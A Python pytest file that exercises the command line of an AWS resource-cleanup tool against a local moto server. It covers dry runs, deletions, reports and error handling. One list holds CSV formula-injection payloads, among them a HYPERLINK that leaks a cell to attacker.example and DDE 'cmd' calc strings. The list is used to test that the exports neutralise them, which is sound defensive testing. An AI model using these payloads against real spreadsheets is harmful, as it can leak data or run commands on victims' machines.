"""The command line end to end, against a moto server on 127.0.0.1: the region
processes the orchestrator starts reach it through AWS_ENDPOINT_URL."""

import csv
import io
import itertools
import json
import logging
import os
import sqlite3
import stat
import subprocess
import sys
import time

import boto3
import pytest
from click.testing import CliRunner

from costcutter import aws, logs, paths, sandbox
from costcutter.cli import ESTIMATE_COLUMN, cli
from costcutter.store import SCHEMA_VERSION, EventStore, new_event

SMALL = 1  # of every type of CLI_SERVICES
CLI_SERVICES = ("ec2", "s3")


def invoke(*args, input=None):
    return CliRunner().invoke(cli, [str(arg) for arg in args], input=input, catch_exceptions=False)


def run_args(db_path, *regions, real=False):
    args = ["run", "--db", db_path, "--dry-run"] if not real else ["run", "--db", db_path, "--no-dry-run", "--yes"]
    return [*args, *[arg for region in regions for arg in ("--region", region)]]


def everything(inventory):
    return sorted(resource for ids in inventory.values() for resource in ids)


def run_ids(db_path):
    with EventStore(db_path) as store:
        return [row["id"] for row in store.runs()]


def event_count(db_path, run_id):
    with EventStore(db_path) as store:
        return len(list(store.events(run_id)))


@pytest.fixture
def seeded(sandbox_endpoint, monkeypatch):
    """EC2 and S3 seeded in three regions, and runs limited to them unless a test chooses:
    the command line behaves the same whatever the types, and tests/test_whole_stack.py
    sweeps every type."""
    monkeypatch.setenv("COSTCUTTER_SERVICES", ",".join(CLI_SERVICES))
    return {region: sandbox.seed(region, default_count=SMALL, services=CLI_SERVICES)
            for region in ("us-east-1", "eu-west-1", "us-west-2")}


def test_dry_run_changes_nothing_and_records_would_delete(seeded, db_path):
    before = {region: sandbox.inventory(region) for region in seeded}
    result = invoke(*run_args(db_path, "us-east-1", "eu-west-1"))
    assert result.exit_code == 0, result.output
    assert {region: sandbox.inventory(region) for region in seeded} == before
    store = EventStore(db_path)
    (run_id,) = run_ids(db_path)
    would = {(e["region"], e["resource_id"]) for e in store.events(run_id) if e["kind"] == "would_delete"}
    expected = {(region, rid) for region in ("us-east-1", "eu-west-1") for rid in everything(before[region])}
    assert would == expected
    assert not any(e["kind"] in ("delete_requested", "deleted") for e in store.events(run_id))


def test_real_run_deletes_chosen_regions_and_services_only(seeded, db_path):
    untouched_region = sandbox.inventory("us-west-2")
    # Compared with what was there rather than with what was seeded: a seed makes what its
    # type needs too (a service's cluster, a node group's cluster).
    other_services = {region: {k: v for k, v in sandbox.inventory(region).items() if not k.startswith("ec2.")}
                      for region in ("us-east-1", "eu-west-1")}
    result = invoke(*run_args(db_path, "us-east-1,eu-west-1", real=True), "--service", "ec2")
    assert result.exit_code == 0, result.output
    for region in ("us-east-1", "eu-west-1"):
        left = sandbox.inventory(region)
        assert {k: v for k, v in left.items() if not k.startswith("ec2.")} == other_services[region]  # not chosen
        assert everything({k: v for k, v in left.items() if k.startswith("ec2.")}) == []
    assert sandbox.inventory("us-west-2") == untouched_region


def test_real_run_of_everything_leaves_nothing(seeded, db_path):
    result = invoke(*run_args(db_path, "us-east-1", "eu-west-1", "us-west-2", real=True))
    assert result.exit_code == 0, result.output
    for region in seeded:
        assert everything(sandbox.inventory(region)) == []
    assert "finished" in result.output


def test_real_run_needs_confirmation_without_a_terminal(seeded, db_path):
    before = sandbox.inventory("us-east-1")
    result = invoke("run", "--db", db_path, "--region", "us-east-1", "--no-dry-run")
    assert result.exit_code == 2
    assert "pass --yes" in result.output
    assert sandbox.inventory("us-east-1") == before


def test_a_protected_instance_is_kept_with_what_it_holds_and_the_run_exits_0(sandbox_endpoint, db_path, monkeypatch):
    """The issue's case: a termination-protected instance, with a volume attached besides its
    root volume and an Elastic IP, in a VPC of its own (its own subnet and security group)."""
    monkeypatch.setenv("COSTCUTTER_SERVICES", ",".join(CLI_SERVICES))
    sandbox.seed("us-east-1", default_count=SMALL, services=CLI_SERVICES)
    ec2 = boto3.client("ec2", region_name="us-east-1")
    vpc = ec2.create_vpc(CidrBlock="10.9.0.0/16")["Vpc"]["VpcId"]
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.9.0.0/24", AvailabilityZone="us-east-1a")["Subnet"]["SubnetId"]
    group = ec2.create_security_group(GroupName="kept-web", Description="web", VpcId=vpc)["GroupId"]
    [image] = sandbox.inventory("us-east-1")["ec2.amis"][:1]
    instance = ec2.run_instances(
        ImageId=image, MinCount=1, MaxCount=1, SubnetId=subnet, SecurityGroupIds=[group],
        BlockDeviceMappings=[{"DeviceName": "/dev/sda1", "Ebs": {"VolumeSize": 8, "DeleteOnTermination": False}}],
    )["Instances"][0]["InstanceId"]
    ec2.modify_instance_attribute(InstanceId=instance, DisableApiTermination={"Value": True})
    data = ec2.create_volume(AvailabilityZone="us-east-1a", Size=1)["VolumeId"]
    ec2.attach_volume(VolumeId=data, InstanceId=instance, Device="/dev/sdf")
    address = ec2.allocate_address(Domain="vpc")["AllocationId"]
    ec2.associate_address(AllocationId=address, InstanceId=instance)
    [root] = [m["Ebs"]["VolumeId"] for r in ec2.describe_instances(InstanceIds=[instance])["Reservations"]
              for i in r["Instances"] for m in i["BlockDeviceMappings"] if m["DeviceName"] == "/dev/sda1"]

    result = invoke(*run_args(db_path, "us-east-1", real=True))
    assert result.exit_code == 0, result.output
    kept = {"ec2.instances": [instance], "ec2.volumes": sorted([root, data]), "ec2.elastic_ips": [address],
            "ec2.security_groups": [group], "ec2.subnets": [subnet], "ec2.vpcs": [vpc]}
    left = {key: ids for key, ids in sandbox.inventory("us-east-1").items() if ids}
    assert left == kept  # everything else seeded was deleted
    (run_id,) = run_ids(db_path)
    with EventStore(db_path) as store:
        skipped = {e["resource_id"]: e["message"] for e in store.events(run_id) if e["kind"] == "skipped"}
        assert store.outcome_counts(run_id)["failed"] == 0
    assert skipped.keys() == {rid for ids in kept.values() for rid in ids}
    assert "set remove_deletion_protection: true" in skipped.pop(instance)
    assert set(skipped.values()) == {f"held by ec2.instances {instance}, which is kept"}


def test_report_csv_has_one_row_per_event(seeded, db_path):
    invoke(*run_args(db_path, "us-east-1", real=True))
    (run_id,) = run_ids(db_path)
    result = invoke("report", run_id, "--db", db_path, "--csv", "-")
    rows = list(csv.DictReader(io.StringIO(result.output)))
    stored = list(EventStore(db_path).events(run_id))
    assert len(rows) == len(stored) > 0
    assert [int(row["seq"]) for row in rows] == [event["seq"] for event in stored]


def test_report_csv_to_a_file(seeded, db_path, tmp_path):
    invoke(*run_args(db_path, "us-east-1"))
    result = invoke("report", "--db", db_path, "--csv", tmp_path / "run.csv")
    assert result.exit_code == 0
    assert "Wrote" in result.output
    assert (tmp_path / "run.csv").read_text().startswith("seq,run_id,at,kind")


def test_report_defaults_to_the_latest_run(seeded, db_path):
    invoke(*run_args(db_path, "us-east-1"))
    invoke(*run_args(db_path, "eu-west-1"))
    latest = run_ids(db_path)[-1]
    report = json.loads(invoke("report", "--db", db_path, "--json").output)
    assert report["run"]["id"] == latest
    assert {row["region"] for row in report["summary"]} == {"eu-west-1"}
    assert report["run"]["status"] == "finished"


def test_runs_lists_every_run_with_status_and_counts(seeded, db_path):
    invoke(*run_args(db_path, "us-east-1"))
    invoke(*run_args(db_path, "us-east-1", real=True))
    result = invoke("runs", "--db", db_path)
    lines = result.output.splitlines()
    assert len(lines) == 5
    assert "dry run" in lines[2] and "finished" in lines[2]
    assert "real" in lines[3]
    assert lines[4] == f"Event log: {db_path}"


def test_resuming_a_finished_run_says_so(seeded, db_path):
    invoke(*run_args(db_path, "us-east-1"))
    (run_id,) = run_ids(db_path)
    result = invoke("run", "--db", db_path, "--resume", run_id)
    assert result.exit_code == 0
    assert "already finished" in result.output


def test_resume_takes_no_selection_flags(db_path):
    result = invoke("run", "--db", db_path, "--resume", "abc", "--region", "us-east-1")
    assert result.exit_code == 2
    assert "--resume continues a run" in result.output


@pytest.mark.parametrize("command", [["report", "nosuchrun"], ["run", "--resume", "nosuchrun"]])
def test_an_unknown_run_id_is_one_line_and_exit_2(seeded, db_path, command):
    invoke(*run_args(db_path, "us-east-1"))
    result = invoke(*command, "--db", db_path)
    assert result.exit_code == 2
    assert result.output.strip().splitlines() == [
        f"Error: no run 'nosuchrun' in {db_path}; `costcutter runs` lists the runs"]


def test_a_corrupt_database_is_reported_and_left_alone(tmp_path):
    db = tmp_path / "broken.db"
    db.write_bytes(b"this is not sqlite" * 100)
    for command in (["runs"], ["report"], ["run", "--region", "us-east-1"]):
        result = invoke(*command, "--db", db)
        assert result.exit_code == 2
        assert len(result.output.strip().splitlines()) == 1
        assert "not a readable CostCutter event log" in result.output
    assert db.read_bytes() == b"this is not sqlite" * 100


def test_missing_credentials_are_one_line_and_exit_2(db_path, monkeypatch):
    for variable in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
        monkeypatch.delenv(variable)
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://127.0.0.1:9")  # never reached
    result = invoke("run", "--db", db_path, "--region", "us-east-1")
    assert result.exit_code == 2
    assert result.output.strip().splitlines() == [
        "Error: no AWS credentials found; set AWS_PROFILE (or aws_profile), or AWS_ACCESS_KEY_ID and "
        "AWS_SECRET_ACCESS_KEY"]


def test_report_without_a_database_says_how_to_start(tmp_path):
    result = invoke("report", "--db", tmp_path / "none.db")
    assert result.exit_code == 2
    assert "run `costcutter run` first" in result.output


@pytest.mark.parametrize("typed, exit_code, deleted", [("123456789012", 0, True), ("210987654321", 1, False)])
def test_at_a_terminal_a_real_run_asks_for_the_account_id(seeded, db_path, monkeypatch, typed, exit_code, deleted):
    monkeypatch.setattr("costcutter.confirmation.at_a_terminal", lambda: True)
    before = sandbox.inventory("us-east-1")
    result = invoke("run", "--db", db_path, "--region", "us-east-1", "--no-dry-run", input=typed + "\n")
    assert "in AWS account 123456789012 (no alias), in 1 region: us-east-1." in result.output
    assert result.exit_code == exit_code
    assert (everything(sandbox.inventory("us-east-1")) == []) is deleted
    if not deleted:
        assert sandbox.inventory("us-east-1") == before
        assert run_ids(db_path) == []


def test_regions_all_means_the_regions_enabled_for_the_account(sandbox_endpoint, db_path):
    enabled = sorted(r["RegionName"] for r in boto3.client("ec2", region_name="us-east-1").describe_regions()["Regions"])
    result = invoke("run", "--db", db_path, "--region", "all", "--service", "s3")
    assert result.exit_code == 0, result.output
    run = EventStore(db_path).run(run_ids(db_path)[0])
    assert run["config"]["regions"] == enabled
    assert f"in {len(enabled)} regions" in result.output


def test_secrets_never_reach_the_logs_events_or_reports(seeded, db_path, tmp_path, monkeypatch):
    secret = "wJalrXUtnFEMIK7MDENGbPxRfiCYSECRETKEY"
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", secret)
    monkeypatch.setenv("AWS_SESSION_TOKEN", "FQoGZXIvYXdzSESSIONTOKEN")
    log_dir = tmp_path / "logs"
    monkeypatch.setenv("COSTCUTTER_LOG_DIR", str(log_dir))
    monkeypatch.setenv("COSTCUTTER_LOG_LEVEL", "DEBUG")
    invoke(*run_args(db_path, "us-east-1", real=True))
    outputs = [invoke("report", "--db", db_path, "--csv", "-").output, invoke("report", "--db", db_path, "--json").output]
    log_text = (log_dir / "costcutter.log").read_text()
    assert "deleted us-east-1 key_pairs" in log_text  # region processes log through the main process
    stored = [path.read_bytes() for path in tmp_path.glob("events.db*")]
    for text in [log_text, *outputs, *(blob.decode("latin-1") for blob in stored)]:
        assert secret not in text and "SESSIONTOKEN" not in text


def test_a_locked_database_is_one_line_and_exit_2(seeded, db_path, monkeypatch):
    monkeypatch.setattr("costcutter.store.BUSY_TIMEOUT_SECONDS", 0.2)
    invoke(*run_args(db_path, "us-east-1"))
    (run_id,) = run_ids(db_path)
    events_before = event_count(db_path, run_id)
    holder = sqlite3.connect(db_path, isolation_level=None)
    holder.execute("PRAGMA locking_mode=EXCLUSIVE")
    holder.execute("BEGIN EXCLUSIVE")
    try:
        result = invoke(*run_args(db_path, "us-east-1"))
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert result.exit_code == 2
    assert result.output.strip().splitlines() == [
        f"Error: the event log {db_path} is locked by another program; wait for it to finish, "
        "or pass --db to use another file"]
    assert event_count(db_path, run_id) == events_before


def mode(path):
    return stat.S_IMODE(path.stat().st_mode)


def test_the_event_log_the_diagnostic_log_and_their_folders_are_for_the_owner_only(sandbox_endpoint, tmp_path):
    result = invoke("run", "--region", "us-east-1", "--service", "s3")  # the default places, under the XDG folders

    assert result.exit_code == 0, result.output
    made = [paths.default_database().parent, paths.default_log_dir()]
    for folder in made:
        assert [mode(folder), mode(folder.parent)] == [0o700, 0o700], folder
    assert {path.name: mode(path) for folder in made for path in folder.iterdir()} == {
        "costcutter.db": 0o600, "costcutter.log": 0o600}


def test_the_diagnostic_log_is_rotated_into_backups_for_the_owner_only(tmp_path, monkeypatch):
    monkeypatch.setattr(logs, "MAX_BYTES", 300)
    root = logging.getLogger()
    saved = root.handlers, root.level
    log_dir = tmp_path / "state" / "costcutter"
    try:
        logs.setup_main(log_dir, "INFO")
        for n in range(20):
            logging.getLogger("test").info("line %d of the diagnostic log", n)
    finally:
        for handler in root.handlers:
            handler.close()
        root.handlers, root.level = saved

    files = {path.name: mode(path) for path in log_dir.iterdir()}
    assert len(files) == 1 + logs.BACKUPS
    assert set(files.values()) == {0o600}
    assert [mode(log_dir), mode(log_dir.parent)] == [0o700, 0o700]


def one_line_error(result):
    assert result.exit_code == 2, result.output
    (line,) = result.output.strip().splitlines()
    assert line.startswith("Error: ") and "Error:" not in line[len("Error:"):]  # no exception name either
    return line[len("Error: "):]


@pytest.mark.parametrize("command", [["runs"], ["report"], ["report", "--csv", "-"]])
def test_reading_commands_refuse_a_foreign_database_and_leave_it_byte_identical(tmp_path, command):
    db = tmp_path / "someone-elses.db"
    connection = sqlite3.connect(db)
    connection.execute("CREATE TABLE notes (text TEXT)")
    connection.commit()
    connection.close()
    before = db.read_bytes()

    assert one_line_error(invoke(*command, "--db", db)) == (
        f"{db} is not a CostCutter event log (it has no runs and events tables); pass --db to use another file")
    assert db.read_bytes() == before
    assert sorted(path.name for path in tmp_path.iterdir()) == ["someone-elses.db"]


def test_runs_and_report_read_a_spine_event_log_without_changing_it(spine_db):
    path, run_id = spine_db
    before = path.read_bytes()

    listed = invoke("runs", "--db", path)
    report = invoke("report", "--db", path, "--json")
    exported = invoke("report", run_id, "--db", path, "--csv", "-")

    assert listed.exit_code == report.exit_code == exported.exit_code == 0, listed.output + report.output
    assert run_id in listed.output.splitlines()[2] and "finished" in listed.output
    assert json.loads(report.output)["totals"]["would_delete"] == 1
    assert len(list(csv.DictReader(io.StringIO(exported.output)))) == 5
    assert path.read_bytes() == before


@pytest.mark.parametrize("command", [["runs"], ["report"], ["run", "--region", "us-east-1"]])
def test_a_database_of_a_newer_costcutter_is_refused_in_one_line(sandbox_endpoint, db_path, command):
    EventStore(db_path).close()
    connection = sqlite3.connect(db_path)
    connection.execute("PRAGMA user_version = 99")
    connection.close()
    before = db_path.read_bytes()

    error = one_line_error(invoke(*command, "--db", db_path))

    assert "has schema version 99, newer than this CostCutter" in error
    assert f"(up to {SCHEMA_VERSION}); upgrade CostCutter, or pass --db" in error
    assert db_path.read_bytes() == before


@pytest.mark.parametrize("resume", [False, True])
def test_a_damaged_database_is_refused_by_run_before_anything_is_written(sandbox_endpoint, db_path, damage,
                                                                         resume):
    invoke(*run_args(db_path, "us-east-1"), "--service", "s3")
    (run_id,) = run_ids(db_path)
    damage(db_path, run_id)
    before = db_path.read_bytes()

    command = ["run", "--db", db_path, "--resume", run_id] if resume else run_args(db_path, "us-east-1")
    error = one_line_error(invoke(*command))

    assert error.startswith(f"the event log {db_path} is damaged (")
    assert db_path.read_bytes() == before


@pytest.mark.parametrize("part", ["file", "folder"])
def test_a_read_only_database_is_refused_by_run_in_one_line(sandbox_endpoint, tmp_path, read_only, part):
    db = tmp_path / "logs" / "events.db"
    invoke(*run_args(db, "us-east-1"), "--service", "s3")
    before = db.read_bytes()
    read_only(db if part == "file" else db.parent)

    error = one_line_error(invoke(*run_args(db, "us-east-1"), "--service", "s3"))

    assert str(db) in error and "writable" in error and "--db" in error
    assert db.read_bytes() == before


def test_a_region_named_twice_is_swept_once(sandbox_endpoint, db_path):
    result = invoke("run", "--db", db_path, "--region", "eu-west-1", "--region", "eu-west-1,eu-west-1",
                    "--service", "s3", "--service", "s3")
    assert result.exit_code == 0, result.output
    (run_id,) = run_ids(db_path)
    with EventStore(db_path) as store:
        config = store.run(run_id)["config"]
        started = [(e["region"], e["resource_type"]) for e in store.events(run_id) if e["kind"] == "unit_started"]
    assert (config["regions"], config["services"]) == (["eu-west-1"], ["s3.buckets"])
    assert started == [("eu-west-1", "buckets")]
    assert "of 1 resource type in 1 region " in result.output


def test_a_type_can_be_chosen_and_another_excluded(seeded, db_path):
    before = sandbox.inventory("us-east-1")
    result = invoke(*run_args(db_path, "us-east-1", real=True), "--service", "ec2.key_pairs,ec2.elastic_ips",
                    "--exclude-service", "ec2.elastic_ips")
    assert result.exit_code == 0, result.output
    left = sandbox.inventory("us-east-1")
    assert left["ec2.key_pairs"] == []
    assert left["ec2.elastic_ips"] == before["ec2.elastic_ips"]
    assert left["ec2.instances"] == before["ec2.instances"]


def test_the_regions_resolved_from_all_are_deduplicated(sandbox_endpoint):
    from botocore.stub import Stubber
    session = aws.make_session(None)
    ec2 = aws.client(session, "ec2", "us-east-1")
    with Stubber(ec2) as stub:
        stub.add_response("describe_regions", {"Regions": [{"RegionName": name} for name in
                                                           ("us-east-1", "eu-west-1", "us-east-1")]})
        assert aws.enabled_regions(session) == ["eu-west-1", "us-east-1"]


def test_excluding_every_chosen_service_is_refused_before_a_run_is_recorded(sandbox_endpoint, db_path):
    result = invoke("run", "--db", db_path, "--region", "us-east-1", "--service", "ec2", "--exclude-service", "ec2")
    assert result.exit_code == 2
    assert result.output.strip().splitlines() == [
        "Error: config key 'excluded_services' (from command line): ['ec2'] excludes every service chosen by "
        "'services' (['ec2'], from command line), so there is nothing to sweep; exclude fewer services, or choose others"]
    assert not db_path.exists()


# CSV export: what a spreadsheet would run as a formula is written as text (OWASP CSV injection)

HOSTILE = ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]


def hostile_run(make_reporter):
    reporter = make_reporter("us-east-1")
    for name in HOSTILE:
        reporter.record("failed", "ec2", "key_pairs", resource_id=name, error_code=name, message=name)
    reporter.events()  # flushed
    return reporter.run_id


def test_report_csv_neutralises_spreadsheet_formulas(make_reporter, db_path, tmp_path):
    run_id = hostile_run(make_reporter)
    for target in ("-", tmp_path / "run.csv"):
        result = invoke("report", run_id, "--db", db_path, "--csv", target)
        assert result.exit_code == 0, result.output
        text = result.output if target == "-" else open(target, newline="").read()
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert [row["resource_id"] for row in rows] == ["'" + name for name in HOSTILE]
        assert [row["message"] for row in rows] == ["'" + name for name in HOSTILE]
        assert [row["error_code"] for row in rows] == ["'" + name for name in HOSTILE]
        assert all(row["seq"].isdigit() and row["pid"].isdigit() for row in rows)


def test_report_csv_leaves_harmless_text_and_numbers_alone(seeded, db_path):
    invoke(*run_args(db_path, "us-east-1"))
    (run_id,) = run_ids(db_path)
    result = invoke("report", run_id, "--db", db_path, "--csv", "-")
    rows = list(csv.DictReader(io.StringIO(result.output)))
    stored = list(EventStore(db_path).events(run_id))
    # Every column of the log as it is, and the estimate of each cataloged resource (tests/test_costs.py).
    assert [{key: value for key, value in row.items() if key != ESTIMATE_COLUMN} for row in rows] == [
        {key: "" if value is None else str(value) for key, value in event.items()} for event in stored]


def test_a_csv_export_is_private_unless_the_file_exists(seeded, db_path, tmp_path):
    invoke(*run_args(db_path, "us-east-1"))
    new = tmp_path / "new.csv"
    assert invoke("report", "--db", db_path, "--csv", new).exit_code == 0
    assert new.stat().st_mode & 0o777 == 0o600
    existing = tmp_path / "existing.csv"
    existing.write_text("old")
    existing.chmod(0o644)
    assert invoke("report", "--db", db_path, "--csv", existing).exit_code == 0
    assert existing.stat().st_mode & 0o777 == 0o644
    assert existing.read_text().startswith("seq,run_id")


@pytest.mark.parametrize("where, reason", [("folder", "Is a directory"), ("file/under/a/file.csv", "Not a directory"),
                                           ("missing/run.csv", "No such file or directory")])
def test_a_csv_path_that_cannot_be_written_is_one_line_and_exit_2(seeded, db_path, tmp_path, where, reason):
    invoke(*run_args(db_path, "us-east-1"))
    (tmp_path / "folder").mkdir()
    (tmp_path / "file").write_text("")
    target = tmp_path / where
    result = invoke("report", "--db", db_path, "--csv", target)
    assert result.exit_code == 2
    assert result.output.strip().splitlines() == [
        f"Error: cannot write the CSV export to {target}: {reason}; pass --csv a file path you can write, "
        "or - for standard output"]


# Exit codes and messages the README promises

def costcutter(*args, **environment):
    """The command in a process of its own, as a person runs it (nothing cached from other tests)."""
    return subprocess.run([sys.executable, "-m", "costcutter", *map(str, args)], capture_output=True, text=True,
                          env={**os.environ, **environment}, timeout=120)


def test_an_unknown_aws_profile_is_one_line_and_exit_2(sandbox_endpoint, db_path):
    for args in (["--region", "us-east-1"], []):
        result = costcutter("run", "--db", db_path, *args, AWS_PROFILE="nope")
        assert result.returncode == 2, result.stderr
        assert result.stderr.strip().splitlines() == [
            "Error: AWS profile 'nope' is not configured; check AWS_PROFILE and aws_profile, "
            "or run `aws configure --profile nope`"]
    assert run_ids(db_path) == []


def test_commands_that_need_no_aws_work_with_an_unknown_profile(seeded, db_path):
    invoke(*run_args(db_path, "us-east-1"))
    result = costcutter("report", "--db", db_path, AWS_PROFILE="nope")
    assert result.returncode == 0, result.stderr


def test_an_unusable_log_dir_that_was_asked_for_is_one_line_and_exit_2(sandbox_endpoint, db_path, tmp_path):
    (tmp_path / "file").write_text("")
    log_dir = tmp_path / "file" / "logs"
    result = costcutter("run", "--db", db_path, "--region", "us-east-1", COSTCUTTER_LOG_DIR=str(log_dir))
    assert result.returncode == 2, result.stderr
    assert result.stderr.strip().splitlines() == [
        f"Error: config key 'log_dir' (from COSTCUTTER_LOG_DIR): cannot write the diagnostic log in {log_dir} "
        "(Not a directory); use a folder you can write, or leave log_dir unset for the default"]
    assert not db_path.exists()


def test_an_unusable_default_log_dir_is_a_warning(sandbox_endpoint, db_path, tmp_path):
    (tmp_path / "file").write_text("")
    result = costcutter("run", "--db", db_path, "--region", "us-east-1", "--service", "s3",
                        XDG_STATE_HOME=str(tmp_path / "file"))
    assert result.returncode == 0, result.stderr
    assert result.stderr.strip().splitlines() == [
        f"Warning: cannot write the diagnostic log in {tmp_path / 'file' / 'costcutter'} (Not a directory); "
        "going on without it."]
    assert len(run_ids(db_path)) == 1


def test_an_endpoint_that_refuses_connections_fails_fast(db_path, monkeypatch):
    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://127.0.0.1:9")  # nothing listens on the discard port
    started = time.monotonic()
    result = invoke("run", "--db", db_path, "--region", "us-east-1")
    assert time.monotonic() - started < 5
    assert result.exit_code == 2
    assert result.output.strip().splitlines() == [
        'Error: cannot reach AWS (Could not connect to the endpoint URL: "http://127.0.0.1:9/"); '
        "check the network or AWS_ENDPOINT_URL"]
    assert run_ids(db_path) == []


# Failures and keeps are visible everywhere; a dry run names what it would delete

def a_failure_and_a_keep(region="us-east-1"):
    """An instance named build-agent with its root volume, another volume and a key pair:
    a run of volumes and key pairs only (`FAILING_AND_KEPT`) fails the root volume, in use
    by an instance outside the run, and keeps the key pair, by --exclude-id. Returns
    (instance, its root volume, the key pair)."""
    ec2 = boto3.client("ec2", region_name=region)
    made = sandbox.seed(region, {"ec2.instances": 1, "ec2.volumes": 1, "ec2.key_pairs": 1}, default_count=0)
    (instance,), (key_pair,) = made["ec2.instances"], made["ec2.key_pairs"]
    ec2.create_tags(Resources=[instance], Tags=[{"Key": "Name", "Value": "build-agent"}])
    (volume,) = [mapping["Ebs"]["VolumeId"] for mapping in ec2.describe_instances(InstanceIds=[instance])
                 ["Reservations"][0]["Instances"][0]["BlockDeviceMappings"]]
    return instance, volume, key_pair


def failing_and_kept(db_path, key_pair):
    return invoke(*run_args(db_path, "us-east-1", real=True), "--service", "ec2.volumes,ec2.key_pairs",
                  "--exclude-id", key_pair)


def row_of(text, resource_id):
    (line,) = [line for line in text.splitlines() if f" {resource_id} " in line]
    return line.split(maxsplit=5)


def test_the_end_of_a_run_and_the_report_name_each_failed_and_kept_resource_and_why(sandbox_endpoint, db_path):
    instance, volume, key_pair = a_failure_and_a_keep()

    ran = failing_and_kept(db_path, key_pair)
    reported = invoke("report", "--db", db_path)

    assert ran.exit_code == 1
    assert reported.exit_code == 0, reported.output
    for text in (ran.output, reported.output):
        assert "Failed: 1 resource:" in text and "Kept: 1 resource:" in text
        region, service, rtype, rid, error, message = row_of(text, volume)
        assert (region, service, rtype, rid, error) == ("us-east-1", "ec2", "volumes", volume, "VolumeInUse")
        assert instance in message
        assert row_of(text, key_pair)[:5] == ["us-east-1", "ec2", "key_pairs", key_pair, key_pair]
        assert row_of(text, key_pair)[5].startswith("kept by keep rule ids")


def test_report_json_has_the_resources_of_each_outcome_with_ids_names_and_errors(sandbox_endpoint, db_path):
    instance, volume, key_pair = a_failure_and_a_keep()
    failing_and_kept(db_path, key_pair)

    report = json.loads(invoke("report", "--db", db_path, "--json").output)

    resources = report["resources"]
    assert {outcome: len(rows) for outcome, rows in resources.items()} == report["totals"]
    assert [(r["resource_id"], r["name"], r["message"][:4]) for r in resources["skipped"]] == [
        (key_pair, key_pair, "kept")]
    assert [(r["resource_type"], r["resource_id"], r["error_code"]) for r in resources["failed"]] == [
        ("volumes", volume, "VolumeInUse")]
    deleted = {(r["resource_type"], r["resource_id"]) for r in resources["deleted"]}
    with EventStore(db_path) as store:
        assert deleted == {(e["resource_type"], e["resource_id"]) for e in store.events(report["run"]["id"])
                           if e["kind"] == "deleted"}


def test_a_dry_run_lists_the_ids_it_would_delete(seeded, db_path):
    expected = everything(sandbox.inventory("us-east-1"))

    ran = invoke(*run_args(db_path, "us-east-1"), "--list")
    reported = invoke("report", "--db", db_path, "--list")
    as_json = json.loads(invoke("report", "--db", db_path, "--json").output)

    assert ran.exit_code == reported.exit_code == 0, ran.output + reported.output
    for text in (ran.output, reported.output):
        listed = itertools.takewhile(str.strip, text.split("Every resource:\n", 1)[1].splitlines()[2:])
        would = sorted(line.split()[3] for line in listed if line.split()[-1] == "would_delete")
        assert would == expected
    assert sorted(r["resource_id"] for r in as_json["resources"]["would_delete"]) == expected
    assert "Every resource:" not in invoke("report", "--db", db_path).output  # only when asked


def test_report_csv_of_resources_has_one_row_per_resource_in_its_latest_state(sandbox_endpoint, db_path):
    instance, volume, key_pair = a_failure_and_a_keep()
    failing_and_kept(db_path, key_pair)

    result = invoke("report", "--db", db_path, "--csv", "--resources")

    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert list(rows[0]) == ["run_id", "region", "service", "resource_type", "resource_id", "name", "outcome",
                             "error_code", "message", "at"]
    by_id = {row["resource_id"]: row for row in rows}
    assert len(by_id) == len(rows)
    assert (by_id[key_pair]["outcome"], by_id[key_pair]["name"]) == ("skipped", key_pair)
    assert (by_id[volume]["outcome"], by_id[volume]["error_code"]) == ("failed", "VolumeInUse")
    assert len(rows) == sum(json.loads(invoke("report", "--db", db_path, "--json").output)["totals"].values())


# report --csv as people type it, and flags that do not go together

def test_report_csv_without_a_value_writes_to_standard_output(make_reporter, db_path):
    run_id = hostile_run(make_reporter)
    for args in (["--csv"], ["--csv", "-"], ["--csv", "--resources"]):
        result = invoke("report", run_id, "--db", db_path, *args)
        assert result.exit_code == 0, result.output
        rows = list(csv.DictReader(io.StringIO(result.output)))
        assert len(rows) == len(HOSTILE)
    assert sorted(path.name for path in db_path.parent.iterdir() if not path.name.startswith("events.db")) == []


@pytest.mark.parametrize("flags, error", [
    (["--csv", "--json"], "--csv and --json are two formats of the report; pass one of them"),
    (["--json", "--csv", "out.csv"], "--csv and --json are two formats of the report; pass one of them"),
    (["--resources"], "--resources chooses the rows of the CSV export; pass it with --csv"),
    (["--json", "--resources"], "--resources chooses the rows of the CSV export; pass it with --csv"),
    (["--json", "--full"], "--full is for the text report, and --json lists every resource already; "
                           "pass one or the other"),
    (["--csv", "--list", "--full"], "--list and --full are for the text report, and --csv lists every resource "
                                    "already; pass one or the other"),
])
def test_flags_that_ask_for_two_things_at_once_are_one_line_and_exit_2(make_reporter, db_path, tmp_path, flags, error):
    run_id = hostile_run(make_reporter)
    assert one_line_error(invoke("report", run_id, "--db", db_path, *flags)) == error
    assert not (tmp_path / "out.csv").exists()


def test_report_csv_into_a_pipe_closed_early_ends_quietly_with_exit_0(make_reporter, store, db_path):
    reporter = make_reporter()
    for batch in range(5):  # far more than a pipe holds, so the writer meets the closed pipe
        store.append([new_event(reporter.run_id, "cataloged", region="us-east-1", service="s3", resource_type="buckets",
                                resource_id=f"bucket-{batch}-{n}", message="x" * 100) for n in range(2000)])
    shell = f"set -o pipefail; {sys.executable} -m costcutter report --db {db_path} --csv | head -1"

    result = subprocess.run(["bash", "-c", shell], capture_output=True, text=True, timeout=120)

    assert (result.returncode, result.stderr) == (0, "")
    assert result.stdout.startswith("seq,run_id,at,kind")


# runs: where the log is, and what to do when there is none yet

def test_runs_without_an_event_log_says_how_to_start(tmp_path):
    missing = tmp_path / "none" / "costcutter.db"
    result = invoke("runs", "--db", missing)
    assert result.exit_code == 0, result.output
    assert result.output.splitlines() == [
        f"No runs yet: there is no event log at {missing}.",
        "Start with a dry run, which deletes nothing: costcutter run --region us-east-1"]
    assert not missing.parent.exists()


def test_runs_says_where_the_default_event_log_is(sandbox_endpoint):
    invoke("run", "--region", "us-east-1", "--service", "s3")
